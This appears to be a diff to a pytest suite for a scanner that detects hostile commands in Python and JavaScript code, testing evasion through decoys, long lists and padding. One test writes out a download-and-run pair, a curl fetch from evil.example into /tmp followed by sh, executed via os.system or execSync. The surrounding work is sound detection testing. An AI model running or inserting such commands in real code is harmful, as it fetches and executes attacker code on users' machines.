@@ -150,18 +150,51 @@ def test_decoys_hide_nothing(path: str, table: dict[str, tuple[str, str]], way: 
     assert ("download-and-run", "evil.example -> sh") in names(told(path, text(table[way], number)))
 
 
+@pytest.mark.parametrize(("path", "table", "way"), SPELLED)
+@pytest.mark.parametrize("number", [900, 2_100])
+def test_more_decoys_than_are_looked_at_are_told(
+    path: str, table: dict[str, tuple[str, str]], way: str, number: int
+) -> None:
+    found = told(path, text(table[way], number))
+    assert ("download-and-run", "evil.example -> sh") in names(found) or any(
+        isinstance(one, Unread) for one in found
+    )
+
+
 @pytest.mark.parametrize(
     ("path", "table", "way"),
     [
-        (path, table, way)
-        for path, table, way in SPELLED
-        if "calls" in way or "settings" in way or "puts" in way
+        *(("a.js", JAVASCRIPT, way) for way in ("items", "modules", "tables", "places")),
+        *(("a.py", PYTHON, way) for way in ("entries", "texts", "items", "modules", "keywords")),
     ],
 )
-def test_more_decoys_than_are_looked_at_are_told(
+def test_lists_that_are_longer_than_any_are_told(
     path: str, table: dict[str, tuple[str, str]], way: str
 ) -> None:
-    found = told(path, text(table[way], 900))
+    found = told(path, text(table[way], 25_000))
+    assert any(isinstance(one, Unread) for one in found)
+
+
+RUN = {
+    "a.py": ("import os\n", "os.system({!r})\n"),
+    "a.js": ("const c = require('child_process');\n", "c.execSync({!r});\n"),
+}
+
+
+@pytest.mark.parametrize("path", RUN)
+@pytest.mark.parametrize("number", [0, 1, 50, 900])
+def test_commands_are_judged_together_however_many_stand_between_them(path: str, number: int) -> None:
+    begin, run = RUN[path]
+    commands = ["curl -so /tmp/x https://evil.example/x", *["ls"] * number, "sh /tmp/x"]
+    found = told(path, begin + "".join(map(run.format, commands)))
+    assert ("download-and-run", "evil.example -> sh") in names(found)
+
+
+@pytest.mark.parametrize("path", RUN)
+@pytest.mark.parametrize("command", ["true;" * 5_000, "$(echo " * 900, " " * 100_000])
+def test_a_long_command_hides_nothing_in_silence(path: str, command: str) -> None:
+    begin, run = RUN[path]
+    found = told(path, begin + run.format(command + COMMAND))
     assert ("download-and-run", "evil.example -> sh") in names(found) or any(
         isinstance(one, Unread) for one in found
     )
